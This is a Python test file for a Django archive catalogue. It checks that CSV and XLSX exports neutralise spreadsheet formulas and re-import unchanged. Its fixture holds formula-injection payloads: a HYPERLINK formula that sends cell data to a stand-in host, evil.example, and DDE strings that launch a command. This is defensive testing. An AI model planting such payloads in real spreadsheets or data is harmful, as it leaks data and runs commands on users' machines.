"""The catalogue's CSV and XLSX exports (django-import-export) write no formula.

A title, summary, description or position that begins with "=", "+", "-", "@", a tab or a carriage
return is written as text with a leading quote, through the resources themselves (the library's
IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT only drops a leading "=" and turns every cell into
text); the file, imported back unchanged, changes nothing.
"""

import pytest
import tablib
from django import forms
from django.urls import reverse

from archive.models import Item, Period
from archive.resources import ItemResource
from tests.spreadsheet_cells import csv_formulas, csv_rows, xlsx_formulas, xlsx_values

pytestmark = pytest.mark.django_db

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?d="&A1,"Xem bản gốc")',
    "summary": "+cmd|' /C calc'!A0",
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
    "signer_position": "-2+3",
    "place_of_issue": "=1+2",
}
ESCAPED = {"'" + text for text in HOSTILE.values()}


def admin_export(client, fmt: str) -> bytes:
    url = reverse("admin:archive_item_export")
    form = client.get(url).context["form"]
    (choice,) = [value for value, label in form.fields["format"].choices if str(label).lower() == fmt]
    data = {name: "on" for name, field in form.fields.items() if isinstance(field, forms.BooleanField)}
    data |= {"format": choice, "resource": "0"}
    response = client.post(url, data)
    assert response.status_code == 200, response.content[:300]
    return response.content


def test_the_item_exports_write_text_as_text_and_import_back_unchanged(client, propaganda_user):
    item = Item.objects.create(period=Period.objects.get(code="TK4"), page_count=12, **HOSTILE)
    client.force_login(propaganda_user)

    text = admin_export(client, "csv").decode("utf-8")
    assert csv_formulas(text) == []
    header, row = csv_rows(text)
    assert set(row) >= ESCAPED

    content = admin_export(client, "xlsx")
    assert xlsx_formulas(content) == []
    assert xlsx_values(content) >= ESCAPED

    for data, fmt in ((text.removeprefix("\ufeff"), "csv"), (content, "xlsx")):
        result = ItemResource().import_data(tablib.Dataset().load(data, format=fmt), user=propaganda_user)
        assert not result.has_errors() and not result.has_validation_errors(), fmt
        assert [row.import_type for row in result.rows] == ["skip"], fmt
    item.refresh_from_db()
    assert {name: getattr(item, name) for name in HOSTILE} == HOSTILE
